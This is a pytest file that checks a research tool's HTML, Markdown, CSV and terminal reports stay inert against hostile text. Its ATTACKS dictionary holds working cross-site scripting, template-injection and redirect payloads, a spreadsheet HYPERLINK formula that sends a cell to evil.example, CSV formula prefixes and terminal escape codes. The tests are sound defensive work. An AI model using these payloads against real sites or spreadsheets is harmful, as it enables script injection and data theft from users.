"""Text of others in every field, opened in a real browser: it is seen, and it does nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import msgspec
import pytest
from chromium import CHROMIUM, opened
from markdown_it import MarkdownIt

from bigtheta.theory.law import Control, Law, Paper
from bigtheta.verify.cli import main
from bigtheta.verify.report.facts import Stated
from bigtheta.verify.report.pages import pages
from bigtheta.verify.report.report import Report
from bigtheta.verify.report.symbols import Symbol
from bigtheta.verify.verdict import Verdict

in_a_browser = [pytest.mark.slow, pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")]

ATTACKS = {
    "script": "<script>window.pwned = 1</script>",
    "image": "<img src=x onerror='window.pwned=1'>",
    "quotes": "\"'><svg onload=\"window.pwned=1\">",
    "ends": "</style></title></textarea></pre></code></details></table><script>window.pwned=1</script>",
    "comment": "--><script>window.pwned=1</script><!--",
    "cdata": "]]><script>window.pwned=1</script>",
    "link": "[x](javascript:window.pwned=1) <a href='javascript:window.pwned=1' autofocus onfocus='pwned=1'>y</a>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "svg": "</text></svg><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "style": "x{}</style><style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "mathml": "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=window.pwned=1></math>",
    "markdown": "![x](http://evil.example/a.png) | **b** | `c` $d$ <details open ontoggle=window.pwned=1>",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3c;img src=x onerror=window.pwned=1&#x3e;",
    "unicode": "\u202ered\u202c \ufeff\u2028window.pwned=1\u2029 \ud7ff",
    "sheet": "=HYPERLINK(\"http://evil.example?\"&A1;\"x\")",
}  # fmt: skip
SEEN = "window.pwned === undefined && ![...document.querySelectorAll('iframe')].length"
HANDLERS = """[...document.querySelectorAll("*")].flatMap(e => [...e.attributes]
    .filter(a => a.name.startsWith("on") || /^\\s*javascript:/i.test(a.value)).map(a => e.outerHTML.slice(0, 80)))"""
FOREIGN = """[...document.querySelectorAll("script, iframe, object, embed, base, link, meta[http-equiv], form, input")]
    .map(e => e.outerHTML.slice(0, 80))"""


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with opened(tmp_path_factory.mktemp("chromium")) as page:
        yield page


@pytest.fixture(scope="module")
def attacked(made: Callable[..., Report], tiny: Callable[..., Law]) -> Callable[[str], Report]:
    """Return a report that says the text wherever it says anything."""

    def report(text: str) -> Report:
        paper = Paper(id="x", authors=text, year=2020, title=text, arxiv=text)
        law = tiny(paper=paper, theorem=text, claim=text, note=text)
        negative = Control(activation="abs", because=text)
        plain = made((law, "relu", None), (law, "abs", negative), (tiny(name="own", source=text), "tanh", None))
        entries = []
        for entry, verdict in zip(plain.entries, (Verdict.FAIL, Verdict.FAIL, Verdict.ERROR), strict=True):
            facts = msgspec.structs.replace(
                entry.facts, symbol=Symbol(text, text, "", text), model=text, inputs=text, labels=text, theorem=text,
                reference=text, paper=text, claim=text, note=text, source=text, limit=text, hypotheses=(Stated(text),),
            )  # fmt: skip
            judgement = replace(entry.judgement, reason=text, verdict=verdict)
            control = None if entry.control is None else facts
            changed = replace(entry, activation=text, judgement=judgement, about=facts)
            entries.append(changed if control is None else replace(changed, control=entry.control))
        about = plain.provenance | {
            "versions": {text: text}, "commit": text, "profile": text, "device": text,
            "plugins": [{"name": text, "version": text}, {"file": text, "sha256": text}],
        }  # fmt: skip
        return Report(tuple(entries), about)

    return report


def opened_page(page: Any, file: Path, text: str) -> str:
    """Open a page and look whether the text did anything; return what a reader sees."""
    file.write_text(text, encoding="utf-8")
    page.problems.clear()
    page.requests.clear()
    page.open(file.as_uri(), width=1280)
    page.run('document.querySelectorAll("details").forEach(e => { e.open = true; })')
    assert page.run(SEEN)
    assert page.run(HANDLERS) == []
    assert page.requests == [file.as_uri()]
    assert page.problems == []
    shown = page.run("document.body.textContent")
    assert page.run("getComputedStyle(document.body).display") != "none"
    return str(shown)


class TestBrowser:
    pytestmark = in_a_browser

    @pytest.mark.parametrize("name", ATTACKS)
    def test_the_report_shows_it_and_does_nothing(
        self, page: Any, attacked: Callable[[str], Report], tmp_path: Path, name: str
    ) -> None:
        report = attacked(ATTACKS[name])
        shown = opened_page(page, tmp_path / "report.html", report.to_html())
        assert page.run(FOREIGN) == ['<link rel="icon" href="data:,">']
        visible = "".join(c for c in ATTACKS[name] if c.isprintable())
        assert visible.split()[0] in shown, "as text, not taken away"
        notebook = f"<!doctype html><meta charset=utf-8><body>{report._repr_html_()}"
        opened_page(page, tmp_path / "notebook.html", notebook)

    @pytest.mark.parametrize("name", sorted(set(ATTACKS) - {"sheet", "unicode"}))
    def test_pages_in_markdown_do_nothing_where_html_is_let_through(
        self, page: Any, attacked: Callable[[str], Report], tmp_path: Path, name: str
    ) -> None:
        report = attacked(ATTACKS[name])
        parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
        for index, text in enumerate([report.to_markdown(), *pages(report).values()]):
            body = parser.render(text).replace('src="figures/', 'data-figure="')
            opened_page(page, tmp_path / f"{index}.html", f"<!doctype html><meta charset=utf-8><body>{body}")

    @pytest.mark.parametrize("name", ["script", "image", "ends", "meta", "svg"])
    def test_an_attack_that_is_not_escaped_is_found(
        self, page: Any, attacked: Callable[[str], Report], tmp_path: Path, name: str
    ) -> None:
        html = attacked("PLACE").to_html().replace("PLACE", ATTACKS[name])
        with pytest.raises(AssertionError):
            opened_page(page, tmp_path / "bare.html", html)


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("start", ["", "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d"])
def test_no_cell_is_run_by_a_spreadsheet(attacked: Callable[[str], Report], name: str, start: str) -> None:
    rows = list(csv.reader(io.StringIO(attacked(start + ATTACKS[name]).to_csv())))
    assert len({len(row) for row in rows}) == 1
    cells = [cell for row in rows[1:] for cell in row]
    numbers = [cell for cell in cells if cell.startswith("-") and cell[1:].replace(".", "").replace("e-", "").isdigit()]
    run = [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20") and cell.strip()]
    assert sorted(run) == sorted(numbers)


def test_a_formula_among_the_trials_is_no_formula_of_a_spreadsheet(tmp_path: Path, tiny: Callable[..., Law]) -> None:
    from bigtheta.verify.run import verify

    law = tiny(activations=["-tanh(u)"], sizes={"n": [20, 35, 60]})
    verify(law, trials=1, out=tmp_path)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "trials.csv").read_text(encoding="utf-8"))))
    assert {row["activation"] for row in rows} == {"'-tanh(u)"}


def test_an_error_in_the_terminal_holds_no_control_codes(capsys: pytest.CaptureFixture[str]) -> None:
    for text in ("\x1b]0;title\x07", "\x1b[2J\x1b[31mred", "a\rb", "a\x00b", "\u202egnp.exe"):
        with pytest.raises(SystemExit) as stopped:
            main([text], prog_name="bigtheta")
        assert stopped.value.code == 2
        printed = capsys.readouterr()
        seen = (printed.out + printed.err).replace("\n", "")
        assert seen.isprintable(), ascii(seen)
